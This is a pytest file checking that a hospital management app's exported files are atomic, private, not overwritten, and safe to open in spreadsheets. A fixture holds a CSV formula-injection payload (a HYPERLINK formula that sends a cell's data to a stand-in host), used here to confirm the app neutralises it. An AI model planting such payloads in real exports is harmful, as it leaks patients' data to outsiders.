"""Files survive: never written over the application's own, whole or not at all (a full disk
included), private to their owner, named so that no earlier copy is lost, and no cell a
spreadsheet would run as a formula."""
import csv
import errno
import os
import stat
import subprocess
from datetime import date, time
from decimal import Decimal as D
from pathlib import Path

import pytest

from hospital_mgmt.documents.files import atomic_file
from hospital_mgmt.domain.billing import PaymentMethod
from hospital_mgmt.domain.doctor import Doctor
from hospital_mgmt.domain.errors import FileExists, OutputError, OutputRefused
from hospital_mgmt.domain.patient import Patient
from hospital_mgmt.domain.period import Period
from hospital_mgmt.domain.service import Service
from hospital_mgmt.log_setup import configure
from hospital_mgmt.operations import appointments, billing, doctors, documents, imports, patients, price_list, reports
from tests.menu_driver import run_menu
from tests.support import SIGNED_IN, add_staff, context_for

NOVEMBER = Period(date(2026, 11, 1), date(2026, 11, 30))
FORMULA = '=HYPERLINK("http://x/?"&A2)'


@pytest.fixture
def ctx(db, settings_for):
    ctx = context_for(db, settings_for(db))
    patients.register_patient(ctx, Patient(name="Asha Rao", contact_no="9000000001", age=30, gender="F",
                                           registered_on=date(2026, 11, 1)))
    doctors.add_doctor(ctx, Doctor("Meera Iyer", "9100000000", specialization="@Cardiology", consultation_fee="800"))
    price_list.add_service(ctx, Service(FORMULA, "120.50"))
    booked = appointments.book_appointment(ctx, 1001, 1, ctx.today(), time(9, 0), "-2 kg since last visit")
    draft = billing.start_bill(ctx, 1001, booked.appt_id)
    billing.add_service(ctx, draft, 1, 2)
    bill = billing.finalize_bill(ctx, draft)
    billing.record_payment(ctx, bill.bill_id, D("41.00"), PaymentMethod.CASH)
    return ctx


def read_rows(path):
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_an_export_is_never_written_over_the_database_the_log_or_the_settings(ctx, settings_for, tmp_path):
    own = ctx.settings.own_files()
    targets = [own[0], ctx.settings.log_file, Path(".env")] if ctx.db.engine == "sqlite" else [ctx.settings.log_file]
    configure(ctx.settings.log_file)
    for target in targets + [next(p for p in own if p.suffix == ".sql")]:
        before = target.read_bytes() if target.exists() else None
        with pytest.raises(OutputRefused, match="is the application's own file"):
            documents.export(ctx, "billing", NOVEMBER, target, replace=True)
        assert (target.read_bytes() if target.exists() else None) == before
    with pytest.raises(OutputRefused, match="is a folder"):
        documents.export(ctx, "billing", NOVEMBER, tmp_path, replace=True)
    with pytest.raises(OutputRefused, match="^/dev/null is not an ordinary file"):
        documents.export(ctx, "billing", NOVEMBER, Path("/dev/null"), replace=True)
    assert Path("/dev/null").is_char_device()
    assert patients.get_patient(ctx, 1001).name == "Asha Rao"  # the database still works


def test_an_existing_file_is_replaced_only_when_asked(ctx, tmp_path):
    target = tmp_path / "mine.csv"
    target.write_text("the accountant's own notes\n", encoding="utf-8")
    with pytest.raises(FileExists, match="mine.csv exists already"):
        documents.export(ctx, "billing", NOVEMBER, target)
    with pytest.raises(FileExists):
        reports.save_report(ctx, reports.run_report(ctx, "unpaid", NOVEMBER), target)
    assert target.read_text(encoding="utf-8") == "the accountant's own notes\n"
    assert documents.export(ctx, "billing", NOVEMBER, target, replace=True) == 1
    assert read_rows(target)[1][0] == "B001"


def test_the_menu_asks_before_replacing_a_file_and_asks_again_for_a_name(ctx, tmp_path):
    target, other = tmp_path / "mine.csv", tmp_path / "other.csv"
    target.write_text("keep me\n", encoding="utf-8")
    answers = ["7", "1", "2026-11-01", "2026-11-30", str(target), "n", str(other), "0", "10"]
    transcript = run_menu(ctx.db, ctx.settings, answers)
    assert (f"File [{ctx.settings.reports_dir / 'billing_summary_20261101_20261130.csv'}]: {target}\n"
            f"{target} exists already. Replace it? [y/N]: n\nNothing was written; give another name.\n") in transcript
    assert f"Wrote 1 rows to {other}" in transcript and target.read_text(encoding="utf-8") == "keep me\n"
    transcript = run_menu(ctx.db, ctx.settings, ["7", "1", "", "", str(target), "y", "0", "10"])
    assert f"Wrote 1 rows to {target}" in transcript and read_rows(target)[1][0] == "B001"


def test_a_command_refuses_to_replace_a_file_without_force(ctx, tmp_path):
    from tests.e2e.test_commands_in_process import run
    target = tmp_path / "top.csv"
    target.write_text("x\n", encoding="utf-8")
    env = {"SQLITE_PATH": str(ctx.db.path) if ctx.db.engine == "sqlite" else "", "OUTPUT_DIR": str(tmp_path / "out"),
           "LOG_FILE": str(tmp_path / "app.log")}
    if ctx.db.engine == "mysql":
        from tests.conftest import MYSQL_ENV
        env.update(MYSQL_ENV, DB_NAME=ctx.db.connection.database)
    add_staff(ctx.db)
    with pytest.MonkeyPatch.context() as patch:
        for name, value in {**env, **SIGNED_IN}.items():
            patch.setenv(name, value)
        assert run(["report", "unpaid", "--csv", str(target)]) == (
            1, run(["report", "unpaid"])[1], f"Error: {target} exists already; choose another name, or replace it "
                                            "(--force)\n")
        assert target.read_text(encoding="utf-8") == "x\n"
        assert run(["report", "unpaid", "--csv", str(target), "--force"])[0] == 0
    assert read_rows(target)[0][:2] == ["Bill", "Patient"]


def test_default_names_carry_the_period_and_no_copy_is_ever_replaced(ctx):
    first = documents.default_export_path(ctx, "billing", NOVEMBER)
    documents.export(ctx, "billing", NOVEMBER, first)
    second = documents.default_export_path(ctx, "billing", NOVEMBER)
    assert (first.name, second.name) == ("billing_summary_20261101_20261130.csv",
                                         "billing_summary_20261101_20261130_2.csv")
    day_one, day_two = documents.write_daily_report(ctx, ctx.today()), documents.write_daily_report(ctx, ctx.today())
    assert [p.name for p in day_one + day_two] == ["daily_visits_report_20261122.csv", "cash_up_20261122.csv",
                                                   "daily_visits_report_20261122_2.csv", "cash_up_20261122_2.csv"]
    original, reprint = documents.print_invoice(ctx, 1, pdf=True), documents.print_invoice(ctx, 1, pdf=True)
    assert [p.name for p in original + reprint] == ["bill_B001.txt", "bill_B001.pdf", "bill_B001_duplicate_1.txt",
                                                    "bill_B001_duplicate_1.pdf"]
    assert "DUPLICATE" not in original[0].read_text(encoding="utf-8")


def test_files_and_folders_holding_patient_data_are_private_to_their_owner(ctx):
    configure(ctx.settings.log_file)
    ctx.log("a line so that the log exists")
    written = documents.print_invoice(ctx, 1, pdf=True) + documents.write_daily_report(ctx, ctx.today())
    written.append(reports.save_report(ctx, reports.run_report(ctx, "unpaid", NOVEMBER),
                                       reports.default_report_path(ctx, "unpaid", NOVEMBER)))
    written.append(documents.write_summary(ctx, NOVEMBER))
    written.append(ctx.settings.log_file)
    if ctx.db.engine == "sqlite":
        written += [Path(ctx.db.path), Path(f"{ctx.db.path}-wal")]
    assert {path.name: mode(path) for path in written} == {path.name: 0o600 for path in written}
    folders = {ctx.settings.invoices_dir, ctx.settings.reports_dir, ctx.settings.log_file.parent}
    assert {folder.name: mode(folder) for folder in folders} == {folder.name: 0o700 for folder in folders}


def test_a_new_sqlite_database_is_private_from_its_first_byte(tmp_path):
    from hospital_mgmt.storage.sqlite_engine import SQLiteDatabase
    db = SQLiteDatabase.open(tmp_path / "new" / "hospital.db", create=True)
    db.create_schema()
    db.close()
    assert (mode(tmp_path / "new"), mode(tmp_path / "new" / "hospital.db")) == (0o700, 0o600)


def test_text_that_a_spreadsheet_would_run_is_neutralised_in_every_csv_and_numbers_stay_numbers(ctx, tmp_path):
    documents.export(ctx, "billing", NOVEMBER, tmp_path / "billing.csv")
    documents.export(ctx, "appointments", NOVEMBER, tmp_path / "appointments.csv")
    [billed] = read_rows(tmp_path / "billing.csv")[1:]
    assert billed[8] == "'@Cardiology" and billed[17] == "1000.00"  # specialization; balance stays a number
    [visit] = read_rows(tmp_path / "appointments.csv")[1:]
    assert (visit[8], visit[9]) == ("'@Cardiology", "'-2 kg since last visit")
    saved = reports.save_report(ctx, reports.run_report(ctx, "revenue-by-service", NOVEMBER), tmp_path / "r.csv")
    assert read_rows(saved)[1] == ["S01", "'" + FORMULA, "2", "241.00"]
    visits, _ = documents.write_daily_report(ctx, ctx.today())
    assert read_rows(visits)[1][6:] == ["'@Cardiology", "scheduled", "'-2 kg since last visit"]
    source = tmp_path / "services.csv"
    source.write_text(f'service_name,cost\n"{FORMULA.replace(chr(34), chr(34) * 2)}x",-5\n', encoding="utf-8")
    rejected = imports.import_file(ctx, "services", source)
    assert read_rows(rejected.rejects_path)[1] == ["2", "price: must be more than 0", "'" + FORMULA + "x", "-5"]


def test_a_write_that_fails_half_way_leaves_the_earlier_file_whole_and_no_scraps(tmp_path):
    target = tmp_path / "report.csv"
    target.write_text("the earlier copy\n", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_file(target) as handle:
        handle.write("half of the new one")
        raise RuntimeError("killed")
    assert target.read_text(encoding="utf-8") == "the earlier copy\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


@pytest.fixture
def full_disk(tmp_path):
    """A 64 KiB tmpfs (a real full disk) where the machine lets us mount one."""
    folder = tmp_path / "tiny"
    folder.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)],
                             capture_output=True).returncode == 0
    if not mounted:
        pytest.skip("cannot mount a tmpfs here; test_a_full_disk_is_one_line_even_when_injected covers it")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


def test_a_full_disk_leaves_no_half_written_invoice_pdf_or_csv(ctx, full_disk):
    with open(full_disk / "filler", "wb", buffering=0) as filler:  # fill it up to the last byte
        try:
            while True:
                filler.write(b"x" * 512)
        except OSError:
            pass
    ctx.settings = ctx.settings.__class__(**{**ctx.settings.__dict__, "output_dir": full_disk})
    with pytest.raises(OutputError, match=r"^cannot write .*bill_B001\.pdf: No space left on device$"):
        documents.print_invoice(ctx, 1, text=False, pdf=True)
    with pytest.raises(OutputError, match="No space left on device"):
        documents.export(ctx, "appointments", NOVEMBER, full_disk / "appointments.csv")
    leftovers = sorted(p.name for p in full_disk.rglob("*") if p.is_file())
    assert leftovers == ["filler"]


def test_a_full_disk_is_one_line_even_when_injected(tmp_path, monkeypatch):
    def no_space(descriptor):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(os, "fsync", no_space)
    with (pytest.raises(OutputError, match=r"^cannot write .*out\.csv: No space left on device$"),
          atomic_file(tmp_path / "out.csv") as handle):
        handle.write("x")
    assert list(tmp_path.iterdir()) == []
